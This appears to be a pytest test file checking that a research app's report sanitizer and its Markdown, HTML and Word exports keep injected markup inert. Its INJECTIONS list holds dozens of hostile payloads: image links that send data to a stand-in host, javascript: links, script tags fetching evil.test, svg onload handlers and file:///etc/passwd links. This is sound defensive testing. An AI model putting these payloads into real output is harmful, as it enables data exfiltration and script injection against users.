"""Nothing in a report is active, whatever models and pages write; checked with a parser that is not
ours."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Collection, Iterator
from io import BytesIO
from pathlib import Path

import cmarkgfm
import lxml.html
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.reports import (
    BLOCKS,
    SOURCES,
    TEXT_TAGS,
    claim_on,
    faults,
    passage,
    source_at,
    standing,
)
from kit.runs import lab, written
from kit.work import processor_limit

from deep_research.app.exports.formats import export_formats
from deep_research.app.runs import StoredRun
from deep_research.core.evidence.citations.labels import labels
from deep_research.core.evidence.citations.rendering import (
    clean_for_draft,
    plain_citations,
    with_marks,
    write_document,
)
from deep_research.core.evidence.citations.sanitizing import sanitized, sanitized_at
from deep_research.core.records.report import Report
from deep_research.core.records.sources import safe_link

INJECTIONS = (
    # Images
    "![a](https://evil.test/i?d=S1)",
    '![a](//evil.test/i?d=S2 "t\nt2")',
    "![a](<https://evil.test/a b> 'x')",
    "![a [b] `c`](https://evil.test/i.png)",
    "![![a](https://evil.test/1)](https://evil.test/2)",
    "!\\[a](https://evil.test/i) \\![a](https://evil.test/i)",
    "![a]\\(https://evil.test) ![a](https://evil.test/\\(i\\))",
    "**_![a](https://evil.test/i)_**",
    "![a](data:image/svg+xml;base64,AAAA)",
    "![a][x]\n\n[x]: https://evil.test/i",
    "![x]\n\n[X]: <//evil.test/i> 'title'",
    "![a][0](https://evil.test/i)",
    # Links
    "[a](https://evil.test/?q=secret)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](//evil.test) [b](/etc) [c](?q) [d](#sources)",
    "[a](file:///etc/passwd) [b](vbscript:x)",
    "[https://bank.test](https://evil.test)",
    "[a\nb](https://evil.test\n'c\nd')",
    "[[1]](https://evil.test) [1](https://evil.test) [[1], [2]](//evil.test)",
    "[a](https&#58;//evil.test) [b](\\/\\/evil.test)",
    "[**a** <b>c</b> ![d](//evil.test)](//evil.test)",
    "[​a](//ｅｖｉｌ.test) [a](https://еvil.test)",
    "【1】(https://evil.test) ［a］(https://evil.test)",
    # Definitions and footnotes
    "[1]: https://evil.test/first 'the register'\n\n[1] [a][1]",
    "[a]: //evil.test\n[b]:\n   //evil.test\n   'title'\n\n[a] [b][] [c][A]",
    "> [q]: https://evil.test\n\n[q]",
    "- [l]: https://evil.test\n\n[l]",
    "[^1]: one\n\n    <img src=https://evil.test/>\n\nSee[^1]",
    "a[^x]\n\n[^x]: ![i](https://evil.test) https://evil.test",
    # HTML
    "<img src=https://evil.test/i?d=S3>",
    "<script>fetch('//evil.test')</script>",
    "<a href='https://evil.test'>b</a>",
    "a <b\nonclick='x'>c</b> d",
    "<!-- <img src=x> --> <!-- a\n\nb --> c",
    "<!--\n\n# Hidden\n\n- [a](//evil.test)",
    "<![CDATA[ <img src=//evil.test> ]]>",
    "<?php echo 1 ?> <?xml-stylesheet href='//evil.test'?>",
    "<!DOCTYPE html [<!ENTITY x '//evil.test'>]>",
    "<details open>\n<summary>a</summary>\n\n![b](//evil.test)\n\n</details>",
    "</div><iframe src=//evil.test></iframe>",
    "<svg onload=alert(1)><style>@import '//evil.test'</style></svg>",
    "<im[0]g src=//evil.test/i>",
    "<im\x0bg src=//evil.test/i> <im\x00g src=x>",
    "\\\\<img src=//evil.test> \\\\\\<img src=x>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>\n===\n",
    "<div>\n```\n<b>\n```\n</div>\n\n<pre>\n`</pre><img src=//evil.test>`",
    "&lt;img src=//evil.test&gt; &#60;b&#62;",
    # Addresses without brackets
    "https://evil.test/?q=secret HTTP://EVIL.test",
    "<https://evil.test/> <mailto:a@evil.test> <a@evil.test> <x-app:run>",
    "www.evil.test/?q=secret WWW.evil.test",
    "mail a@evil.test, a\\@evil.test, a&#64;evil.test, b&commat;evil&#46;test, mailto:c@evil.test, xmpp:d@evil.test/x",
    "ftp://evil.test/a //evil.test/b (https://evil.test) *https://evil.test*",
    "`code` https://evil.test ` a@evil.test `` b@evil.test",
    "$\\href{https://evil.test}{x}$ $$\\href{javascript:alert(1)}{y}$$",
    # What hides markup from one parser and not from another
    "| `a | <img src=//evil.test> |\n|---|---|\n| b | c` ![d](//evil.test) |",
    "| a \\| ![b](//evil.test) | c |\n|---|---|\n| `\\|` <b> | [d\\|e](//evil.test) |",
    "> " * 25 + "<img src=//evil.test>",
    "- " * 40 + "![a](//evil.test)",
    "```\n[a](//evil.test)\n``\n![b](//evil.test)\n```x\n",
    "~~~ <img src=x>\n<img src=x>\n~~~\n<img src=x>",
    "* ```\n<img src=//evil.test>\n",
    "Title ![a](//evil.test)\n===\n\nSub <b>t</b>\n---",
    "1. a\n\n       <img src=x>\n\n   <img src=//evil.test>\n\n\t<img src=x>",
    "-\t![a](//evil.test)\n\n \t <img src=//evil.test>",
    "a  \n![b](//evil.test)\\\n<img src=x>\r\n![c](//evil.test)\r![d](//evil.test)",
    "[[1], [2]](//evil.test) [a [1] b](//evil.test 't') [[1]]( <//evil.test> )",
    "![a][x]\n\n[x]: https://evil.test/i(\n\n[y]: //evil.test)\n\n[y] ![b][y]",
)
"""Texts of which a reader would load, open or hide something, in one dialect of Markdown or
another."""


def active(markdown: str, links: Collection[str] = ()) -> Iterator[str]:
    """What of a text acts, by the reference parser of CommonMark and by GitHub's; a link may lead
    to one of `links`."""
    unsafe = Options.CMARK_OPT_UNSAFE
    plain = cmarkgfm.markdown_to_html(markdown, unsafe)
    github = cmarkgfm.github_flavored_markdown_to_html(
        markdown, unsafe | Options.CMARK_OPT_FOOTNOTES
    )
    for html in (plain, github):
        for element in lxml.html.fragment_fromstring(
            html.replace("\x0c", ""), create_parent="div"
        ).iterdescendants():
            is_box = element.tag == "input" and element.get("disabled") is not None
            is_link = element.tag == "a" and element.get("href") in links
            if element.tag not in TEXT_TAGS | BLOCKS | {"del"} and not is_box and not is_link:
                yield lxml.html.tostring(element, encoding="unicode", with_tail=False)


PLACES = (
    "# {line}\n\n{text}\n\nThe Skerry Light was lit in 1844. [1]\n\n- {line} [1]\n\n| {line} | b |\n|---|---|\n"
    "| c {line} | [1] |\n\n> {line}\n\n**{line}** [1]\n\n## {line}\n\nIt was lit in 1844. {text} [1]\n\n{text}"
)
INERT = (
    "# A *b* **c** `d` ~~e~~\n\nf\n===\n\n- g\n  1. h [1]\n\n> i [2]\n\n***\n\nj  \nk\\\nl",
    "| a | `b` |\n|:--|--:|\n| 1 \\| 2 [1] | $x_1 < y^2$ |",
    "```html\n<img src=x> ![a](//evil.test) [a]: b\n```\n\n    <b>\n\n`<b>` and `` ` <i> ` ``",
    "$a<b$, x<y, 1 < 2 > 0, a & b, AT&T, &amp; [see] (there) [2016] {x} f[i](j k)",
    "光は1844年に灯った。[1]「引用」 نور [2] 2026 \u200f(שלום)\u200c",
    "Note 1) see [^1] and [^2], 10:30, a//b, C:\\dir, 5 // 6, user@host, @name, and/or, Amazon.com.",
)


def external(document: bytes) -> set[str]:
    """The external links of a Word document."""
    with zipfile.ZipFile(BytesIO(document)) as parts:
        relations = [
            parts.read(name).decode() for name in parts.namelist() if name.endswith(".rels")
        ]
        assert not [name for name in parts.namelist() if "media" in name]
    return {
        found[1]
        for text in relations
        for found in re.finditer(r'Target="([^"]*)" TargetMode="External"', text)
    }


# Each injection is in a report that no run has written; whole runs use a tenth of them.
FEW = [
    pytest.param(number, marks=pytest.mark.slow) if number % 20 else number
    for number in range(0, len(INJECTIONS), 10)
]


@pytest.mark.sweep
@pytest.mark.fault("R15", "R16")
@pytest.mark.parametrize("number", FEW)
async def test_nothing_a_model_or_document_injects_acts_in_any_form_of_the_report(
    tmp_path: Path, number: int
) -> None:
    text, line = INJECTIONS[number], " ".join(INJECTIONS[number].split())
    draft = PLACES.format(line=line, text=text)
    run = lab(tmp_path, writer=[draft] * 2, verify="off" if number % 3 else "repair")
    run.folder = written(
        tmp_path / "docs", {"light_md": f"# {line}\n\nThe Skerry Light was lit in 1844. {text}\n"}
    )
    # Numbers in links are streamed unchanged.
    run.expected = "are cited before they are announced"
    state = await run.ask()
    assert state.report and state.report.text
    links = {safe_link(state.sources[key].location) for key in state.report.sources}
    assert not [*active(state.report.text)]
    assert not [*active(state.messages[-1].text, links)]
    check_exports(standing(state.report)._replace(state=state), links)


@pytest.mark.slow
@pytest.mark.fault("R15", "R16")
@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injected_draft_title_or_quote_acts_in_no_form_of_the_report(text: str) -> None:
    line = " ".join(text.split())
    source = SOURCES[0].model_copy(update={"title": line})
    draft, _, _ = clean_for_draft(PLACES.format(line=line, text=text), {source.key: source})
    quoted = claim_on(draft.split("\n")[0], "supported", passage(1, "supported", text), text=draft)
    report_text, claims = with_marks(draft, [quoted], labels("en"), [source])
    report = Report(text=report_text, sources=(source.key,), numbers=(1,), claims=claims)
    links = {safe_link(source.location)}
    document = write_document(report, [source], [line], labels("en"), was_researched=True)
    assert not [*active(report.text)]
    assert not [*active(document, links)]
    check_exports(standing(report, [source]), links)


def check_exports(shown: StoredRun, links: Collection[str]) -> None:
    """Check that nothing acts in the exports of a report, but links to its sources."""
    formats = export_formats()
    assert not [*active(str(formats["md"].write(shown)), links)]
    assert {*faults(str(formats["html"].write(shown)))} <= {f"leads to {link}" for link in links}
    document = formats["docx"].write(shown)
    assert isinstance(document, bytes) and external(document) <= set(links)


@pytest.mark.parametrize("text", INERT)
def test_inert_text_stays_byte_for_byte(text: str) -> None:
    assert sanitized(text) == text
    assert not [*active(text)]


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("<img src=x> `<b>` <b>c</b>", "\\<img src=x> `<b>` \\<b>c\\</b>"),
        ('See ![a *b*](//evil.test "t\nt2") and [c](d).', "See a *b* and c."),
        ("> - [a](b)\n>   https://evil.test", "> - a\n>   https\\://evil.test"),
        ("| [a\\|b](//c) | `d\\|<e>` <f> |\n|---|---|", "| a\\|b | `d\\|<e>` \\<f> |\n|---|---|"),
        ("[a]: //evil.test\n\n[a]", "\\[a]: \\//evil.test\n\na"),
        ("info@harbour.test, www.harbour.test", "info`@`harbour.test, www\\.harbour.test"),
    ],
)
def test_only_active_markup_is_rewritten(text: str, inert: str) -> None:
    assert sanitized(text) == inert


def test_only_links_of_source_numbers_stay() -> None:
    links = {"1": "file:///a.md", "2": "https://b.test"}
    assert sanitized("[1] [2], `[1]` [3] [a][2] ![1] [1][2]", links) == "[1] [2], `[1]` [3] a 1 1"


def test_offsets_of_a_text_are_mapped() -> None:
    text = "One <b>. Two [three](//evil.test). Four."
    starts = [text.index(word) for word in ("One", "Two", "three", "Four")]
    inert = sanitized_at(text, starts)
    assert [inert.text[start : start + 3] for start in inert.positions] == [
        "One",
        "Two",
        "thr",
        "Fou",
    ]


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece", ["[a](b)", "<a>", "<!--\n", "[x]: a\n", "> <div>\n\n", "a@b.cd ", "\\", "![a](", "`"]
)
def test_no_text_takes_long(piece: str) -> None:
    # Quadratic time exceeds the limit.
    with processor_limit(5):
        assert sanitized(piece * (10_000 // len(piece)))


PIECES = [
    *(piece for text in INJECTIONS for piece in re.findall(r"\s+|[\w.]+|[^\w\s]+", text)),
    *(
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "!",
        "`",
        "\\",
        "&",
        "@",
        ":",
        "//",
        "\n",
        "\n\n",
        "|",
        "    ",
        "> ",
        "- ",
        "[1]",
    ),
    *(
        "<img src=//e.co>",
        "![",
        "](",
        "](//e.co)",
        "a@e.co",
        "www.e.co",
        "https://e.co",
        "[x]: //e.co",
        "<!--",
        "-->",
    ),
    *(
        "| a | b |\n|---|---|\n",
        "```",
        "~~~",
        "<div>",
        "</div>",
        "[^1]:",
        "\\href",
        "<b>",
        "&lt;",
        "&#64;",
        "===\n",
    ),
]
# Behind backticks of several lengths GitHub's parser takes some code for text; see
# docs/decisions/web.md.
MIXED = [text for text in INJECTIONS if not ("@" in text and "``" in text)]
TEXTS = st.lists(
    st.sampled_from(PIECES) | st.sampled_from(MIXED) | st.text(max_size=3), max_size=14
).map("".join)


@pytest.mark.fault("R15")
@settings(derandomize=True)
@given(TEXTS)
def test_any_sanitized_text_is_inert_and_stable(text: str) -> None:
    inert = sanitized(text)
    assert not [*active(inert)] and not [*active(plain_citations(inert))]
    assert sanitized(inert) == inert


@pytest.mark.fault("R15")
@settings(derandomize=True)
@given(TEXTS, TEXTS, TEXTS, TEXTS)
def test_any_text_title_address_and_note_is_inert_in_a_document(
    text: str, title: str, rest: str, note: str
) -> None:
    location = f"https://host.test/{rest}"
    cited = [
        source_at(url, title, content_hash="c", date=rest[:9]) for url in (location, rest or "x")
    ]
    report = Report(text=text, sources=tuple(source.key for source in cited), numbers=(1, 2))
    document = write_document(report, cited, [note], labels("en"), was_researched=True)
    assert not [*active(document, {safe_link(source.location) for source in cited})]
